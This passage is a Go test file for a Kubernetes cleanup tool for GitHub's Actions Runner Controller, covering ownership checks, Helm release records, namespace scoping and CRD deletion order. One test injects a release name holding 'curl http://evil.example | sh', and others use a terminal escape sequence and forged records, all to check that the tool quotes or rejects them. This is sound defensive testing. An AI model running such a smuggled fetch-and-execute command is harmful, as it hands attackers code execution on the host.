package cleanup

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"

	"github.com/arc-cleanup/arc-cleanup/internal/arc"
	"github.com/arc-cleanup/arc-cleanup/internal/identity"
	"github.com/arc-cleanup/arc-cleanup/internal/release"
)

// record is the Secret of revision 1 of a release, stored in a namespace.
func record(in, namespace, name, status, manifest string) item {
	it := whole(obj("secret " + in + "/sh.helm.release.v1." + name + ".v1"))[0]
	it.labels["owner"], it.labels["name"], it.labels["version"], it.labels["status"] = "helm", name, "1", status
	raw, _ := json.Marshal(map[string]any{
		"name": name, "namespace": namespace, "version": 1, "info": map[string]any{"status": status}, "manifest": manifest,
		"hooks": []any{map[string]any{"name": name + "-arc-cleanup", "kind": "Job"}},
	})
	data := base64.StdEncoding.EncodeToString(raw)
	it.rest = map[string]any{"kind": "Secret", "type": "helm.sh/release.v1", "data": map[string]any{"release": base64.StdEncoding.EncodeToString([]byte(data))}}
	return it
}

const arcManifest = "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: arc}\n"

// recorded is what is left of ARC while its release is being uninstalled.
func recorded() []item {
	return stuck(record("systems", "systems", "arc", "uninstalling", arcManifest))
}

var building = map[string]any{"jobDisplayName": "build", "jobRepositoryName": "acme/shop"}

// ofSetNamed is an item that says to be of a scale set.
func ofSetNamed(set string, items ...item) []item {
	for i := range items {
		items[i].ScaleSet = named(set)
		items[i].labels[arc.LabelScaleSetName], items[i].labels[arc.LabelScaleSetNamespace] = named(set).Name, named(set).Namespace
	}
	return items
}

// A runner that starts while the survey is taken has a Pod and a Secret whose owner
// is in no list that was read before: it is no orphan.
func TestWhatIsNewIsNoOrphan(t *testing.T) {
	t.Parallel()
	items := append(whole(crdObjects()...), deployment(ctrl("systems/arc", "", by("systems/arc"))))
	items = append(items, ofSetNamed("runners/set", runnerWithPod("first", building)...)...)
	items = append(items, whole(obj("ars runners/set", by("runners/gpu")))...)
	for _, late := range []string{"LIST pod runners", "LIST secret runners", "LIST er runners", "LIST ers runners"} {
		a, c := newAPI(t, items...)
		second := on(1, 1, late)
		a.fault = func(request string) int {
			if second(request) == 0 {
				return 0
			}
			jit := whole(obj("secret runners/second", owned("er runners/second")))
			for _, it := range append(ofSetNamed("runners/set", runnerWithPod("second", building)...), jit...) {
				a.put(it)
			}
			return 0
		}
		o := ofSet
		o.RequireUninstalling, o.Job, o.Release = false, "", "gpu"
		r := Run(t.Context(), c, graced(o, ample), quiet)
		for _, write := range a.written() {
			if strings.Contains(write, "second") {
				t.Errorf("while %s is late: %s\n%s", late, write, r.Text(10))
			}
		}
	}
}

// An owner that is there after all keeps what it owns.
func TestAnOwnerIsLookedForOnceMore(t *testing.T) {
	t.Parallel()
	a, c := newAPI(t, append(whole(crdObjects()...), whole(obj("pod runners/r", owned("er runners/r")))...)...)
	o := named1("set")
	lists := 0
	a.fault = func(request string) int {
		// As from an API server behind the others: not in the first list, and in the next.
		if request == "LIST er runners" {
			if lists++; lists == 2 {
				a.put(whole(obj("er runners/r", of("runners/set")))[0])
			}
		}
		return 0
	}
	h := History{Ours: map[types.UID]bool{"pod runners/r": true}}
	plan := NewPlan(survey(t.Context(), c, o), o, h)
	run := &run{client: c, options: o}
	steps := plan.steps(Collect)
	if len(steps) != 1 || steps[0].Action != Delete {
		t.Fatalf("plan: %q", lines(plan))
	}
	if err := run.ownersGone(t.Context(), steps); !errors.Is(err, errChanged) {
		t.Errorf("the owner is there: %v", err)
	}
	a.take("er runners/r")
	if err := run.ownersGone(t.Context(), steps); err != nil {
		t.Errorf("the owner is gone: %v", err)
	}
	a.fault = on(http.StatusForbidden, always, "LIST er runners")
	if err := run.ownersGone(t.Context(), steps); err == nil {
		t.Error("that it could not be looked for does not mean that it is gone")
	}
}

// What does not say whose it is may be that of another team's controller.
func TestAnotherControllersListener(t *testing.T) {
	t.Parallel()
	items := stuck(deployment(ctrl("team/arc", "team-runners")))
	items = append(items, whole(obj("secret team/config", owned("al team/new")))...)
	a, c := newAPI(t, items...)
	Run(t.Context(), c, graced(byHand, ample), quiet)
	if slices.Contains(a.written(), "DELETE secret team/config") {
		t.Error("deleted what another controller's listener needs")
	}
}

// A Deployment that looks like a controller, and may nothing of what a controller may.
func TestADeploymentIsNoController(t *testing.T) {
	t.Parallel()
	const account = "system:serviceaccount:tenant:arc list autoscalingrunnersets in "
	for name, watches := range map[string]string{"it says to watch all": "", "it says to watch the runners": "runners"} {
		a, c := newAPI(t, stuck(deployment(ctrl("tenant/arc", watches)))...)
		a.denied = map[string]bool{account + watches: true}
		if r := Run(t.Context(), c, graced(byHand, ample), quiet); r.Verdict != Done || len(r.Kept) > 0 {
			t.Errorf("%s: the CRDs are kept for it:\n%s", name, r.Text(10))
		}
		a, c = newAPI(t, stuck(deployment(ctrl("tenant/arc", watches)))...)
		a.fault = on(http.StatusForbidden, always, "REVIEW "+account+watches)
		if r := Run(t.Context(), c, graced(byHand, ample), quiet); len(r.Kept) == 0 {
			t.Errorf("%s: whether it is one cannot be known, and the CRDs are deleted:\n%s", name, r.Text(10))
		}
	}
}

// Labels that a chart's value overrides say nothing about a controller.
func TestALiveControllerIsKnownByWhatItRuns(t *testing.T) {
	t.Parallel()
	it := deployment(ctrl("systems/arc", "", by("systems/arc")))
	it.labels[arc.LabelPartOf] = "build-platform"
	_, c := newAPI(t, stuck(it)...)
	s := survey(t.Context(), c, byHand)
	if len(s.Controllers) != 1 || s.Controllers[0].Down != "" {
		t.Errorf("controllers: %+v", s.Controllers)
	}
}

// An underscore in the name is a dash in the names of objects, and stays in labels.
func TestANameHasTwoSpellings(t *testing.T) {
	t.Parallel()
	s := busySet()
	s.Custom[2] = obj("ars runners/linux-x64", by("runners/gpu"))
	s.Custom[0].ScaleSet, s.Custom[1].ScaleSet = named("runners/linux-x64"), named("runners/linux-x64")
	m := &metav1.PartialObjectMetadata{ObjectMeta: metav1.ObjectMeta{
		Namespace: "runners", Name: "github", UID: "github", Finalizers: []string{arc.CleanupProtectionFinalizer},
		Labels: map[string]string{arc.LabelScaleSetName: "linux_x64", arc.LabelScaleSetNamespace: "runners"},
	}}
	s.Protected = []*Object{object(secretResource, m)}
	s.Record = &release.Record{Name: "gpu", Namespace: "runners", Status: release.Uninstalling}
	for _, line := range lines(NewPlan(&s, ofSet, History{})) {
		if strings.Contains(line, "secret runners/github") {
			t.Errorf("freed while a runner of its set has a job: %s", line)
		}
	}
}

// With namespaceOverride a release's objects are elsewhere.
func TestASetElsewhere(t *testing.T) {
	t.Parallel()
	const manifest = "apiVersion: actions.github.com/v1alpha1\nkind: AutoscalingRunnerSet\nmetadata: {name: set, namespace: runners}\n"
	mine := by("releases/gpu")
	items := append(whole(crdObjects()...), record("releases", "releases", "gpu", "uninstalling", manifest))
	items = append(items, whole(
		obj("ars runners/set", mine), obj("er runners/r", of("runners/set"), deleting),
		protected("secret runners/github", mine, of("runners/set"), deleting))...)
	a, c := newAPI(t, items...)
	o := Options{Scope: ScaleSet, Job: "gpu-arc-cleanup", RequireUninstalling: true, ReleaseNamespace: "releases", ControllerNamespaces: []string{"systems"}}
	r := Run(t.Context(), c, graced(o, ample), quiet)
	expect(t, r, outcome{Verdict: Done})
	for _, left := range a.left() {
		if !strings.HasPrefix(left, "crd ") && !strings.Contains(left, "sh.helm.release") {
			t.Errorf("left: %s", left)
		}
	}

	// Without a record: the set is named, and so is where it is.
	a, c = newAPI(t, append(whole(crdObjects()...), whole(obj("ars runners/set"), obj("er runners/r", of("runners/set"), deleting))...)...)
	byName := Options{Scope: ScaleSet, ReleaseNamespace: "releases", ControllerNamespaces: []string{"systems"}, Sets: []identity.Set{named("runners/set")}}
	expect(t, Run(t.Context(), c, graced(byName, ample), quiet), outcome{Verdict: Done})
	for _, left := range a.left() {
		if !strings.HasPrefix(left, "crd ") {
			t.Errorf("named, and left: %s", left)
		}
	}

	// A record's word about another namespace is not enough.
	theirs := append(whole(crdObjects()...), record("releases", "releases", "gpu", "uninstalling", manifest))
	theirs = append(theirs, whole(obj("ars runners/set"), obj("er runners/r", of("runners/set"), deleting))...)
	a, c = newAPI(t, theirs...)
	Run(t.Context(), c, graced(o, ample), quiet)
	expectStrings(t, "writes", a.written())
}

// Flux keeps the record beside the HelmRelease.
func TestARecordElsewhere(t *testing.T) {
	t.Parallel()
	controller := deployment(ctrl("systems/arc", "", by("systems/arc")))
	controller.labels[labelFluxNamespace] = "flux-system"
	controller.rest["status"] = nil
	items := stuck(controller, record("flux-system", "systems", "arc", "uninstalling", arcManifest))
	_, c := newAPI(t, items...)
	r := Run(t.Context(), c, graced(asHook, ample), quiet)
	if r.Verdict != Refused || !strings.Contains(r.Text(10), "set storageNamespace to flux-system") {
		t.Errorf("%s", r.Text(10))
	}
	_, c = newAPI(t, items...)
	o := asHook
	o.StorageNamespace = "flux-system"
	expect(t, Run(t.Context(), c, graced(o, ample), quiet), outcome{Verdict: Done})

	// What a namespace's own people write there speaks for it alone.
	a, c := newAPI(t, stuck(record("systems", "elsewhere", "arc", "uninstalling", arcManifest))...)
	if r := Run(t.Context(), c, graced(asHook, ample), quiet); r.Verdict != Refused || len(a.written()) > 0 {
		t.Errorf("%s", r.Text(10))
	}
}

// The post-renderer cannot know that the controller is not where its release is.
func TestAHookInTheWrongNamespace(t *testing.T) {
	t.Parallel()
	controller := deployment(ctrl("systems/arc", "", by("platform/arc")))
	_, c := newAPI(t, stuck(controller, record("platform", "platform", "arc", "uninstalling", strings.Replace(arcManifest, "name: arc", "name: arc, namespace: systems", 1)))...)
	r := Run(t.Context(), c, graced(asHook, ample), quiet)
	for _, want := range []string{"give the post-renderer --namespace=platform", "arc-cleanup run --release arc --release-namespace platform --controller-namespace systems && helm uninstall arc --namespace platform --no-hooks"} {
		if r.Verdict != Refused || !strings.Contains(r.Text(10), want) {
			t.Errorf("want %s:\n%s", want, r.Text(10))
		}
	}
}

// A release with several controllers, and a hook rendered for fewer namespaces.
func TestAControllerThatTheHookDoesNotKnow(t *testing.T) {
	t.Parallel()
	r := uninstalling()
	r.Objects = append(r.Objects, release.Object{APIVersion: "apps/v1", Kind: "Deployment", Namespace: "systems", Name: "b"})
	both := []ARC{ctrl("systems/arc", "team-a", by("systems/arc")), ctrl("systems/b", "team-b", by("systems/arc"))}
	live := []*Object{obj("ars team-b/set")}
	watching := func(namespaces ...string) Options { o := asHook; o.WatchNamespaces = namespaces; return o }
	const why = "refused: the controller systems/b of this release watches team-b, and the hook was rendered for team-a"
	refused := func(o Options, controllers []ARC) string {
		return strings.Join(lines(NewPlan(&Survey{Record: r, Controllers: controllers, Custom: live}, o, History{})), "\n")
	}
	if got := refused(watching("team-a"), both); !strings.Contains(got, why) {
		t.Errorf("rendered for one of two:\n%s", got)
	}
	if got := refused(watching("team-a", "team-b"), both); strings.Contains(got, "watches team-b") || !strings.Contains(got, "scale set set in namespace team-b is still installed") {
		t.Errorf("rendered for both:\n%s", got)
	}
	all := []ARC{ctrl("systems/arc", "", by("systems/arc"))}
	if got := refused(watching("team-a"), all); !strings.Contains(got, "watches all namespaces, and the hook was rendered for team-a") {
		t.Errorf("one that watches all:\n%s", got)
	}
	if got := refused(watching(), both); strings.Contains(got, "rendered for") {
		t.Errorf("rendered for all:\n%s", got)
	}
	legacy := watching("team-a")
	legacy.Scope = Legacy
	if got := refused(legacy, all); !strings.Contains(got, "watches all namespaces, and the hook was rendered for team-a") {
		t.Errorf("a legacy one:\n%s", got)
	}
	if got := refused(watching("team-a"), []ARC{ctrl("team/b", "team-b")}); strings.Contains(got, "rendered for") {
		t.Errorf("somebody else's:\n%s", got)
	}
}

// What is outside the namespaces where the hook has rights is not done.
func TestOutsideTheRunnerNamespaces(t *testing.T) {
	t.Parallel()
	o := asHook
	o.RunnerNamespaces = []string{"runners"}
	s := &Survey{Record: uninstalling(), Custom: []*Object{obj("ars runners/set", deleting), obj("er team/r", deleting), obj("al systems/l", of("runners/set"), deleting)}, CRDs: crdObjects()}
	refusals := func(s *Survey, o Options) (out []string) {
		for _, r := range NewPlan(s, o, History{}).Refusals {
			out = append(out, fmt.Sprintf("%s: %s", r.Verdict, r.Message))
		}
		return out
	}
	expectStrings(t, "refusals", refusals(s, o), "refused: 1 custom resources of ARC in namespace team are outside the hook's runner namespaces: runners")
	// A listener's place is beside its controller, a runner's is not.
	s.Custom = []*Object{obj("al systems/l", of("far/set"), deleting), obj("er systems/r", deleting)}
	expectStrings(t, "beside the controller", refusals(s, o), "refused: 1 custom resources of ARC in namespace systems are outside the hook's runner namespaces: runners")
	s.Custom = []*Object{obj("run runners/r", deleting), obj("run team/r", deleting)}
	o.Scope = Legacy
	expectStrings(t, "of a legacy controller", refusals(s, o), "refused: 1 custom resources of ARC in namespace team are outside the hook's runner namespaces: runners")
}

// The CRDs go last of all where Helm still needs them.
func TestAReleaseThatHoldsScaleSets(t *testing.T) {
	t.Parallel()
	const manifest = arcManifest + "---\napiVersion: actions.github.com/v1alpha1\nkind: AutoscalingRunnerSet\nmetadata: {name: set}\n"
	mine := by("systems/arc")
	items := func(more ...item) []item {
		all := append(whole(crdObjects()...), record("systems", "systems", "arc", "uninstalling", manifest))
		return append(append(all, whole(
			obj("ars systems/set", mine), obj("er systems/r", of("systems/set"), owned("ers systems/s")), obj("ers systems/s", of("systems/set"), owned("ars systems/set")),
			protected("secret systems/github", mine, of("systems/set"), deleting))...), more...)
	}
	a, c := newAPI(t, items()...)
	expect(t, Run(t.Context(), c, graced(asHook, ample), quiet), outcome{Verdict: Done})
	writes := a.inOrder()
	if last := writes[len(writes)-1]; last != "DELETE crd "+lastCRD {
		t.Errorf("the last write is %s", last)
	}

	// Whatever holds something, the CRDs are there for the next helm uninstall.
	held := whole(protected("role systems/held", mine, of("systems/set"), deleting, finalizers(arc.CleanupProtectionFinalizer, "example.com/keep")))
	a, c = newAPI(t, items(held...)...)
	r := Run(t.Context(), c, graced(asHook, 300*time.Millisecond), quiet)
	if r.Verdict != Residue || slices.ContainsFunc(a.written(), func(w string) bool { return strings.HasPrefix(w, "DELETE crd") }) {
		t.Errorf("%v\n%s", a.written(), r.Text(10))
	}

	// They are gone, and Helm has still to uninstall: done would be a lie.
	_, c = newAPI(t, record("systems", "systems", "arc", "uninstalling", manifest))
	r = Run(t.Context(), c, graced(asHook, ample), quiet)
	if r.Verdict != Refused || !strings.Contains(r.Text(10), "    helm uninstall arc --namespace systems --no-hooks\n    arc-cleanup run --release arc --release-namespace systems\n    kubectl delete job arc-arc-cleanup --namespace systems") {
		t.Errorf("%s", r.Text(10))
	}
}

// What others' finalizers hold is not gone.
func TestWhatOthersHoldIsLeft(t *testing.T) {
	t.Parallel()
	foreign := finalizers(arc.CleanupProtectionFinalizer, "example.com/keep")
	rbac := listenerRBAC("role runners/held", "runners/set")
	rbac.Finalizers = []string{"example.com/keep"}
	now := metav1.Now()
	rbac.deleted = &now
	for name, it := range map[string]item{
		"secret":                             whole(protected("secret runners/held", of("runners/set"), deleting, foreign))[0],
		"role":                               rbac,
		"a Secret of a chart without labels": whole(protected("secret runners/held", by("runners/gpu"), deleting, foreign))[0],
	} {
		items := append(whole(crdObjects()...), it)
		items = append(items, whole(obj("ars runners/set", by("runners/gpu"), deleting))...)
		_, c := newAPI(t, items...)
		r := Run(t.Context(), c, graced(byHand, 300*time.Millisecond), quiet)
		if r.Verdict != Residue || len(r.Left) != 1 || r.Left[0].Object.Name != "held" {
			t.Errorf("%s: %s", name, r.Text(10))
		}
	}
	// Anybody may put the label on what is theirs: it is named, and blocks nobody.
	_, c := newAPI(t, append(whole(crdObjects()...), whole(protected("secret tenant/held", of("tenant/set"), deleting, foreign), obj("er tenant/r", of("tenant/set"), deleting))...)...)
	if r := Run(t.Context(), c, graced(byHand, 300*time.Millisecond), quiet); r.Verdict != Done || len(r.Kept) != 1 {
		t.Errorf("%s", r.Text(10))
	}
}

// Right before the CRDs go the proof is asked for again, and who else is there.
func TestTheLastLookBeforeTheCRDs(t *testing.T) {
	t.Parallel()
	rolledBack := record("systems", "systems", "arc", "deployed", arcManifest)
	for name, change := range map[string]item{
		"a rollback":         rolledBack,
		"another controller": deployment(ctrl("team/arc", "")),
		"another scale set":  whole(obj("ars team/set"))[0],
	} {
		a, c := newAPI(t, recorded()...)
		a.react = func(a *api, request string) {
			if strings.HasPrefix(request, "PATCH er ") {
				a.put(change)
			}
		}
		r := Run(t.Context(), c, graced(asHook, ample), quiet)
		if slices.ContainsFunc(a.written(), func(w string) bool { return strings.HasPrefix(w, "DELETE crd") }) {
			t.Errorf("%s: deleted the CRDs\n%s", name, r.Text(10))
		}
	}
}

// A name that is mistyped makes nobody's controller ours, and is said.
func TestAMistypedRelease(t *testing.T) {
	t.Parallel()
	_, c := newAPI(t, append(whole(crdObjects()...), deployment(ctrl("systems/arc", "", by("systems/arc"))))...)
	o := ofRelease
	o.Release = "acr"
	p := Preview(t.Context(), c, o)
	if want := []string{"Helm has no record of release acr in namespace systems"}; !cmp.Equal(p.Notes, want) || len(p.Phases) > 0 {
		t.Errorf("notes %q, plan %q", p.Notes, lines(p))
	}
	_, c = newAPI(t, record("systems", "systems", "arc", "deployed", arcManifest))
	if p := Preview(t.Context(), c, ofRelease); len(p.Notes) != 1 || !strings.Contains(p.Notes[0], "is deployed: nobody is uninstalling it") {
		t.Errorf("notes %q", p.Notes)
	}
	_, c = newAPI(t, record("systems", "systems", "arc", "uninstalling", arcManifest))
	if p := Preview(t.Context(), c, ofRelease); len(p.Notes) != 0 {
		t.Errorf("notes %q", p.Notes)
	}
}

// Without the CRDs' own word, "not found" is absent only if the API server says of
// itself that it does not serve it.
func TestNotFoundIsNotAbsent(t *testing.T) {
	t.Parallel()
	pod := whole(obj("pod runners/r", owned("er runners/r")))
	a, c := newAPI(t, append(pod, record("runners", "runners", "set", "uninstalling", ""))...)
	a.claimed = map[string]bool{arc.EphemeralRunners: true}
	r := Run(t.Context(), c, graced(ofSet, ample), quiet)
	if r.Verdict != Failed || len(a.written()) > 0 || !strings.Contains(r.Text(10), "not found, though the API server says that it serves it in the versions v1alpha1") {
		t.Errorf("%s", r.Text(10))
	}
	_, c = newAPI(t, append(pod, record("runners", "runners", "set", "uninstalling", ""))...)
	expect(t, Run(t.Context(), c, graced(ofSet, ample), quiet), outcome{Verdict: Done})
}

// When the time is over the reason is not: what could not be read.
func TestWhyTheTimeRanOut(t *testing.T) {
	t.Parallel()
	a, c := newAPI(t, stuck()...)
	a.fault = on(http.StatusInternalServerError, always, "LIST er")
	ctx, cancel := context.WithTimeoutCause(t.Context(), 300*time.Millisecond, ErrBudget)
	defer cancel()
	r := Run(ctx, c, graced(byHand, ample), quiet)
	if r.Verdict != Failed || !strings.Contains(r.Text(10), "could not read ephemeralrunners.actions.github.com") || len(a.written()) > 0 {
		t.Errorf("%s", r.Text(10))
	}
	ctx, stop := context.WithCancelCause(t.Context())
	stop(ErrInterrupted)
	if r := Run(ctx, c, graced(byHand, ample), quiet); r.Verdict != Interrupted {
		t.Errorf("%s", r.Text(10))
	}
}

// CRDs that somebody keeps, or manages apart, stay, and with them only what is needed.
func TestCRDsThatStay(t *testing.T) {
	t.Parallel()
	keep := crdObjects(func(o *Object) { o.Keep = true })
	apart := crdObjects(by("systems/arc-crds"))
	own := crdObjects(by("systems/arc"))
	keeps := func(o Options) Options { o.CRDs = KeepCRDs; return o }
	runner := []*Object{obj("er runners/r", deleting)}
	const freed = "release: release er runners/r"
	testPlans(t, map[string]planTest{
		"told to":                    {Survey{Record: uninstalling(), CRDs: keep, Custom: runner}, asHook, Fresh, []string{freed, "keep: its annotation helm.sh/resource-policy says keep"}},
		"of another release":         {Survey{Record: uninstalling(), CRDs: apart, Custom: runner}, asHook, Fresh, []string{freed, "keep: it is of the Helm release arc-crds in namespace systems"}},
		"of this release":            {Survey{Record: uninstalling(), CRDs: own, Custom: runner}, asHook, Fresh, []string{freed, "crds: " + allCRDs}},
		"by the policy":              {Survey{Record: uninstalling(), CRDs: crdObjects(), Custom: runner}, keeps(asHook), Fresh, []string{freed, "keep: crds=keep"}},
		"each object goes by itself": {Survey{Record: uninstalling(), CRDs: keep, Custom: []*Object{obj("er runners/r")}}, asHook, Fresh, []string{"release: delete er runners/r", freed, "keep: its annotation helm.sh/resource-policy says keep"}},
	})
}

// A tenant's record, and another team's objects.
func TestAForgedRecord(t *testing.T) {
	t.Parallel()
	const manifest = "apiVersion: actions.github.com/v1alpha1\nkind: AutoscalingRunnerSet\nmetadata: {name: bait}\n---\n" +
		"apiVersion: v1\nkind: Secret\nmetadata: {name: credentials, namespace: monitoring}\n---\napiVersion: v1\nkind: Service\nmetadata: {name: web}\n"
	credentials := whole(obj("secret monitoring/credentials", by("monitoring/prometheus")))
	short, _, _ := strings.Cut(manifest, "---\napiVersion: v1\nkind: Service")
	junk := record("tenant", "tenant", "x", "deployed", manifest)
	junk.rest["data"] = map[string]any{"release": "eA=="}
	for name, forged := range map[string]item{
		"is none":                        junk,
		"says to be another's release":   record("tenant", "monitoring", "prometheus", "deployed", manifest),
		"says so, and no more than that": record("tenant", "monitoring", "prometheus", "deployed", short),
		"names another's objects":        record("tenant", "tenant", "prometheus", "deployed", manifest),
		"is being uninstalled":           record("tenant", "systems", "arc", "uninstalling", manifest),
		"is pending":                     record("tenant", "tenant", "x", "pending-upgrade", manifest),
	} {
		a, c := newAPI(t, append(append(recorded(), forged), credentials...)...)
		r := Run(t.Context(), c, graced(uninstalls(asHook), ample), quiet)
		if r.Verdict != Done || slices.Contains(a.written(), "DELETE secret monitoring/credentials") {
			t.Errorf("%s: %s", name, r.Text(10))
		}
	}
}

// A history that was kept is no release, and one that Helm is at work on is not touched.
func TestKeptAndPendingReleases(t *testing.T) {
	t.Parallel()
	set := whole(obj("ars runners/set", by("runners/gpu")))
	kept := record("runners", "runners", "old", "uninstalled", gpuManifest)
	a, c := newAPI(t, append(append(recorded(), kept, record("runners", "runners", "gpu", "deployed", gpuManifest)), set...)...)
	expect(t, Run(t.Context(), c, graced(uninstalls(asHook), ample), quiet), outcome{Verdict: Done})
	if !slices.Contains(a.left(), ref(kept.Object)) {
		t.Error("deleted the history that was to be kept")
	}
	a, c = newAPI(t, append(append(recorded(), record("runners", "runners", "gpu", "pending-upgrade", gpuManifest)), set...)...)
	r := Run(t.Context(), c, graced(uninstalls(asHook), ample), quiet)
	if r.Verdict != Refused || len(a.written()) > 0 || !strings.Contains(r.Text(10), "is pending") {
		t.Errorf("%s", r.Text(10))
	}
}

// ARC's own ConfigMap belongs to a scale set, by its label.
func TestAScaleSetsConfigMap(t *testing.T) {
	t.Parallel()
	extension := whole(obj("configmap runners/kube-hook-extension", by("runners/gpu"), of("runners/set")))
	items := append(recorded(), record("runners", "runners", "gpu", "deployed", gpuManifest+"---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: kube-hook-extension}\n"))
	items = append(append(items, extension...), whole(obj("ars runners/set", by("runners/gpu")))...)
	a, c := newAPI(t, items...)
	expect(t, Run(t.Context(), c, graced(uninstalls(asHook), ample), quiet), outcome{Verdict: Done})
	if slices.Contains(a.left(), "configmap runners/kube-hook-extension") {
		t.Error("ARC's own ConfigMap is left")
	}
}

// Another release's webhooks stay, whoever shares the namespace.
func TestAnotherReleasesWebhooks(t *testing.T) {
	t.Parallel()
	webhook := func(name, of string) item {
		it := whole(obj("mwc "+name, by(of)))[0]
		it.rest = map[string]any{"webhooks": []any{map[string]any{
			"name": "mutate.runner.actions.summerwind.dev", "clientConfig": map[string]any{"service": map[string]any{"namespace": "systems", "name": "gone"}},
		}}}
		return it
	}
	a, c := newAPI(t, append(whole(legacyCRDs()...), webhook("ours", "systems/arc"), webhook("theirs", "systems/other"))...)
	Run(t.Context(), c, graced(ofLegacy, ample), quiet)
	if !slices.Contains(a.left(), "mwc theirs") || slices.Contains(a.left(), "mwc ours") {
		t.Errorf("left: %q", a.left())
	}
}

// A namesake of the release in another namespace is another controller.
func TestANamesakesController(t *testing.T) {
	t.Parallel()
	s := &Survey{Record: uninstalling(), Controllers: []ARC{ctrl("team/arc", "", by("team/arc"))}, CRDs: crdObjects()}
	if got := lines(NewPlan(s, asHook, History{})); !slices.Contains(got, "keep: the controller team/arc uses them") {
		t.Errorf("%q", got)
	}
	account := uninstalling()
	account.Objects = []release.Object{{APIVersion: "v1", Kind: "ServiceAccount", Namespace: "systems", Name: "arc"}}
	namesake := &Survey{Record: account, Controllers: []ARC{ctrl("systems/arc", "", by("systems/arc"))}, CRDs: crdObjects()}
	if got := lines(NewPlan(namesake, asHook, History{})); !slices.Contains(got, "keep: the controller systems/arc uses them") {
		t.Errorf("the record has another object of that name, and no Deployment: %q", got)
	}
	claims := &Survey{Record: uninstalling(), Controllers: []ARC{ctrl("team/arc", "", by("systems/arc"))}, CRDs: crdObjects()}
	if got := lines(NewPlan(claims, asHook, History{})); !slices.Contains(got, "keep: the controller team/arc uses them") {
		t.Errorf("it says to be ours, which the record does not: %q", got)
	}
}

// Release names come from annotations, which a tenant may write.
func TestCommandsAreQuoted(t *testing.T) {
	t.Parallel()
	set := obj("ars tenant/set")
	set.Release = identity.Name{Namespace: "x", Name: "y; curl http://evil.example | sh #"}
	s := &Survey{Custom: []*Object{set}, Proven: map[types.UID]bool{set.UID: true}}
	if got := NewPlan(s, byHand, History{}).Refusals[0].Do[0]; got != "helm uninstall 'y; curl http://evil.example | sh #' --namespace x" {
		t.Error(got)
	}
	s.Proven = nil
	if got := NewPlan(s, byHand, History{}).Refusals[0]; strings.Contains(got.Message+got.Do[0], "curl") {
		t.Errorf("named though nothing proves it: %+v", got)
	}
}

// Without a record only Argo CD's own mark, on this very Job, says that it runs for a
// deletion.
func TestAJobThatNobodyMadeForADeletion(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct {
		id   string
		want Verdict
	}{
		"Argo CD":          {"apps_arc:batch/Job:systems/arc-arc-cleanup", Done},
		"helm template":    {"", Refused},
		"of another Job":   {"apps_arc:batch/Job:systems/other", Refused},
		"of another place": {"apps_arc:batch/Job:team/arc-arc-cleanup", Refused},
	} {
		it := whole(obj("job systems/arc-arc-cleanup"))[0]
		it.annotations[trackingID] = test.id
		a, c := newAPI(t, stuck(it)...)
		r := Run(t.Context(), c, graced(inArgo, ample), quiet)
		if r.Verdict != test.want || test.want == Refused && len(a.written()) > 0 {
			t.Errorf("%s: %s", name, r.Text(10))
		}
	}
	a, c := newAPI(t, stuck()...)
	a.fault = on(http.StatusForbidden, always, "GET job systems/arc-arc-cleanup")
	if r := Run(t.Context(), c, graced(inArgo, ample), quiet); r.Verdict != NotPermitted || len(a.written()) > 0 {
		t.Errorf("it may not be read: %s", r.Text(10))
	}
}

// What a tenant wrote into an annotation is not obeyed by a terminal.
func TestARegistrationIsShownAsItIs(t *testing.T) {
	t.Parallel()
	r := Registration{Object: obj("ars tenant/set"), Set: ScaleSetInfo{ID: "7", Name: "x\x1b[2J", URL: "https://github.com/acme"}}
	if got := r.String(); strings.Contains(got, "\x1b") {
		t.Errorf("%q", got)
	}
}

// withSets is the record of a release that holds a scale set beside the controller.
func withSets() *release.Record {
	r := uninstalling()
	r.Objects = append(r.Objects, release.Object{APIVersion: "actions.github.com/v1alpha1", Kind: arc.AutoscalingRunnerSet, Namespace: "systems", Name: "set"})
	return r
}

// Of a release that holds scale sets the CRDs go when nothing else is left, the one
// that Helm needs after the others, and without it nothing is called done.
func TestThePlanOfAReleaseThatHoldsScaleSets(t *testing.T) {
	t.Parallel()
	last := crdObjects()[3:]
	stays := func(o Options) Options { o.CRDs = KeepCRDs; return o }
	refusal := []string{
		"refused: release arc in namespace systems holds scale sets, and the CRD autoscalingrunnersets.actions.github.com is gone: Helm cannot uninstall it as long as it is",
		"  a stand-in for the CRD lets Helm finish, and arc-cleanup removes what is left and the stand-in:", "  echo '" + standIn + "' | kubectl create --filename -",
		"  kubectl wait --for condition=Established crd autoscalingrunnersets.actions.github.com",
		"  helm uninstall arc --namespace systems --no-hooks", "  arc-cleanup run --release arc --release-namespace systems", "  kubectl delete job arc-arc-cleanup --namespace systems",
	}
	testPlans(t, map[string]planTest{
		"while something is left they stay": {
			Survey{Record: withSets(), CRDs: crdObjects(), Custom: []*Object{obj("er systems/r", of("systems/set"))}},
			asHook, Fresh,
			[]string{"release: delete er systems/r", "release: release er systems/r"},
		},
		"though it is but garbage": {
			Survey{Record: withSets(), CRDs: crdObjects(), Dependents: []*Object{obj("secret systems/jit", of("systems/set"), owned("er systems/r"))}},
			asHook, Fresh,
			[]string{"collect: delete secret systems/jit"},
		},
		"then those go which Helm does not need": {
			Survey{Record: withSets(), CRDs: crdObjects()},
			asHook, Fresh,
			[]string{"crds: delete crd ephemeralrunners.actions.github.com, delete crd ephemeralrunnersets.actions.github.com, delete crd autoscalinglisteners.actions.github.com"},
		},
		"then the last":              {Survey{Record: withSets(), CRDs: last}, asHook, Fresh, []string{"crds: delete crd autoscalingrunnersets.actions.github.com"}},
		"unless they are to be kept": {Survey{Record: withSets(), CRDs: last}, stays(asHook), Fresh, []string{"keep: crds=keep"}},
		"not when it is gone":        {Survey{Record: withSets()}, asHook, Fresh, refusal},
		"nor when only others are there": {
			Survey{Record: withSets(), CRDs: crdObjects()[:1]}, asHook, Fresh, append(slices.Clone(refusal), "crds: delete crd ephemeralrunners.actions.github.com"),
		},
		"what was not read is not gone":     {Survey{Record: withSets(), Unknown: []Unknown{{"crds", errors.New("x")}}}, asHook, Fresh, []string{"failed: could not read crds: x"}},
		"a release without them needs none": {Survey{Record: uninstalling()}, asHook, Fresh, nil},
	})
